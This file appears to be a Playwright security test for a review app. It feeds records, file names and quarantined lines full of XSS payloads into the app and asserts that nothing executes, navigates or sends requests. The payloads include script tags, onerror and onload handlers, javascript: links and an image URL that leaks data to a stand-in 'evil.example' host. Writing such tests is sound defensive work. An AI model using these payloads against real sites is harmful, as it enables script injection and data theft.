/**
 * Everything in an item is attacker-controlled. A record with markup, script URLs and remote
 * resources in every field is opened in every panel, in plain and Markdown views, and in the
 * Workspace screen: nothing may run, no dialog may open, and no request may leave the app.
 */
import { join } from 'node:path';
import { writeFileSync } from 'node:fs';
import { eventMark, expect, openApp, test, waitForAppEvent } from './fixtures.ts';

const H = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '[js link](javascript:window.__pwned=1)',
  '![x](http://evil.example/leak?d=secret)',
  '[click](javascript:alert(1))',
  '<svg onload="window.__pwned=1"></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<a href=http://evil.example>evil</a>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<style>@import url(http://evil.example)</style>',
  '<http://evil.example/autolink>',
].join(' ');

function hostileRecord(): Record<string, unknown> {
  const output = `Sure! ${H}\n\nMore: ${H}`;
  const start = Array.from('Sure! ').length;
  return {
    id: `hostile-${H}`.slice(0, 500),
    created_at: '2026-11-20T10:00:00Z',
    priority: 'critical',
    route: 'trust_safety',
    risk_tier: 'high',
    input: {
      messages: [
        { role: 'system', content: `System ${H}`, name: `sys ${H}`.slice(0, 4000) },
        { role: 'user', content: `User ${H}` },
        { role: 'tool', content: `Tool ${H}`, name: 'tool<img src=x onerror=alert(1)>' },
        { role: 'assistant', content: `Assistant ${H}` },
      ],
    },
    output: { messages: [{ role: 'assistant', content: output }] },
    flags: [
      {
        source: `src ${H}`,
        policy: `policy ${H}`,
        category: `cat ${H}`,
        score: 0.99,
        reason: `reason ${H}`,
        spans: [
          { field: 'output', start, end: start + 40, label: `label ${H}` },
          { field: 'input.messages[1]', start: 0, end: 10, label: '<img src=x onerror=alert(1)>' },
          { field: `output.messages[9]<script>`, start: 0, end: 1, label: 'nowhere' },
        ],
      },
    ],
    evidence: [
      { kind: 'retrieved_document', title: `doc ${H}`, uri: 'javascript:window.__pwned=1', content: `content ${H}`, metadata: { k: H, [`key ${H}`]: [H] } },
      { kind: 'citation', title: `cite ${H}`, uri: 'http://evil.example/cite.png', content: H },
      { kind: 'tool_call', title: `tool ${H}`, uri: 'data:text/html,<script>alert(1)</script>', content: JSON.stringify({ name: H, args: { q: H } }) },
      { kind: 'reference_response', title: H, content: H },
      { kind: 'detector_output', title: H, content: `{"raw": ${JSON.stringify(H)}}`, metadata: { html: H } },
      { kind: 'note', title: H, uri: '//evil.example/x', content: H },
    ],
    provenance: {
      'gen_ai.provider.name': H,
      'gen_ai.request.model': H,
      'gen_ai.response.model': H,
      'gen_ai.response.id': H,
      'gen_ai.conversation.id': H,
      model_version: H,
      deployment: H,
      request_id: H,
      trace_id: H,
      span_id: H,
      dataset_snapshot: H,
      pipeline: [
        { step: H, version: H, at: '2026-11-20T09:00:00Z' },
        { step: `second ${H}`, version: H },
      ],
      [`custom ${H}`]: { nested: H },
    },
    metadata: { note: H, [H]: H, list: [H, { deep: H }] },
  };
}

test('hostile content never runs, loads or navigates anywhere', async ({ page, serve }) => {
  // The source file's own name is hostile too (Linux allows it).
  const fileName = '<img src=x onerror=alert(1)>.jsonl';
  const badLine = `{"id": "q", "bad": "${'<script>window.__pwned=1</script><img src=x onerror=alert(1)>'}"`;
  const served = await serve({ demo: 0, files: [{ name: fileName, lines: [JSON.stringify(hostileRecord()), badLine] }] });

  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => requests.push(r.url()));
  page.on('popup', (p) => requests.push(`popup:${p.url()}`));

  await openApp(page, served);
  const pane = page.getByTestId('item-pane');
  await expect(page.getByTestId('item-external-id')).toContainText('<script>');

  const visit = async () => {
    for (const tab of ['conversation', 'flags', 'evidence', 'provenance', 'history'] as const) {
      await page.getByTestId(`tab-${tab}`).click();
      await expect(page.getByTestId(`panel-${tab}`)).toBeVisible();
      // Open every collapsed section so its content renders too.
      const closed = page.locator(`[data-testid="panel-${tab}"] details:not([open]) > summary`);
      while ((await closed.count()) > 0) await closed.first().click();
    }
    await page.getByTestId('tab-conversation').click();
  };

  await visit();
  // Hover a highlight: its card shows the hostile flag as text.
  await page.locator('[data-testid="span-highlight"]').first().hover();
  await expect(page.getByTestId('span-card')).toContainText('<script>');
  await page.mouse.move(5, 5);

  // Markdown view: images are placeholders, links are text that need confirmation.
  await pane.focus();
  await page.keyboard.press('m');
  await expect(page.getByTestId('markdown-content').first()).toBeVisible();
  await expect(page.getByTestId('md-image-placeholder').first()).toContainText('[image: x — http://evil.example/leak?d=secret]');
  await visit();
  const jsLink = page.getByTestId('md-link').filter({ hasText: 'javascript:alert(1)' }).first();
  await jsLink.locator('[role="button"]').click();
  await expect(page.getByTestId('link-modal-url')).toHaveText('javascript:alert(1)');
  // One CI run in ~20 lost a click made right as the modal opened (no request was sent; not
  // reproduced locally in 6 runs). Clicking again is what a reviewer would do; the assertion on
  // the refusal is unchanged.
  await expect(async () => {
    await page.getByTestId('link-modal-open').click();
    await expect(page.getByTestId('link-modal-result')).toContainText('javascript', { timeout: 2000 });
  }).toPass({ timeout: 10_000 });
  await page.keyboard.press('Escape');
  const httpLink = page.getByTestId('md-link').filter({ hasText: 'http://evil.example/autolink' }).first();
  await httpLink.locator('[role="button"]').click();
  await expect(page.getByTestId('link-modal-url')).toHaveText('http://evil.example/autolink');
  await page.getByTestId('link-modal-open').click();
  // Browser mode cannot open it: the URL is shown for the reviewer to copy.
  await expect(page.getByTestId('link-modal-result')).toContainText('Copy the URL');
  await page.keyboard.press('Escape');
  await expect(page.getByTestId('link-modal')).toHaveCount(0);
  await pane.focus();
  await page.keyboard.press('m');
  await expect(page.getByTestId('markdown-content')).toHaveCount(0);

  // The verdict pane (correction prefilled with hostile output, diff view) and the History.
  await pane.focus();
  await page.keyboard.press('d');
  await expect(page.getByTestId('correction-diff')).toBeVisible();

  // Workspace screen: the hostile source name and the hostile quarantined line.
  await page.keyboard.press('g');
  await page.keyboard.press('w');
  await expect(page.getByTestId('source-name')).toHaveText(fileName);
  await page.getByTestId('ws-tab-quarantine').click();
  await expect(page.getByTestId('quarantine-raw')).toHaveText(badLine);
  await expect(page.getByTestId('quarantine-location')).toContainText(fileName);
  await page.getByTestId('ws-tab-audit').click();
  await page.getByTestId('ws-tab-settings').click();
  await page.getByTestId('ws-tab-sources').click();
  await page.keyboard.press('Escape');

  // Nothing ran, nothing opened, nothing left the app.
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  const foreign = requests.filter((u) => !u.startsWith(`${served.origin}/`));
  expect(foreign).toEqual([]);
  expect(page.url().startsWith(served.origin)).toBe(true);
  // And the DOM holds no element content could have turned into a loader or a navigation.
  const risky = await page.evaluate(() => {
    const out: string[] = [];
    for (const el of document.body.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'iframe', 'img', 'object', 'embed', 'meta', 'link', 'style', 'base', 'form', 'frame'].includes(tag)) {
        if (tag === 'style' && !el.textContent?.includes('evil')) continue; // Mantine's own styles
        out.push(tag);
      }
      for (const attr of ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href']) if (el.hasAttribute(attr)) out.push(`${tag}[${attr}]`);
      for (const a of el.getAttributeNames()) if (a.startsWith('on')) out.push(`${tag}[${a}]`);
    }
    return out;
  });
  expect(risky).toEqual([]);
  await expect(page.locator('#root')).toContainText('Verdict');
});

test('a hostile file ingested from the Workspace screen stays text', async ({ page, serve }) => {
  const served = await serve({ demo: 5 });
  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => requests.push(r.url()));
  await openApp(page, served);
  const file = join(served.dir, '<svg onload=alert(1)>.jsonl');
  writeFileSync(file, `${JSON.stringify(hostileRecord())}\n<img src=x onerror=alert(1)>\n`);
  await page.getByTestId('open-workspace').click();
  await page.getByTestId('ingest-path').fill(file);
  await page.getByTestId('ingest-start').click();
  await expect(page.getByTestId('ingest-state')).toHaveText('done');
  await expect(page.getByTestId('source-name').filter({ hasText: '<svg onload=alert(1)>.jsonl' })).toBeVisible();
  await page.getByTestId('ws-tab-quarantine').click();
  await expect(page.getByTestId('quarantine-raw')).toHaveText('<img src=x onerror=alert(1)>');
  await page.keyboard.press('Escape');
  // Find the hostile item by search and open it.
  const mark = await eventMark(page);
  await page.getByTestId('queue-search').fill('evil');
  await waitForAppEvent(page, 'verdict:queue-loaded', mark);
  await expect(page.getByTestId('queue-row')).toHaveCount(1);
  await page.getByTestId('queue-row').first().click();
  await expect(page.getByTestId('item-external-id')).toContainText('hostile-');
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(requests.filter((u) => !u.startsWith(`${served.origin}/`))).toEqual([]);
});
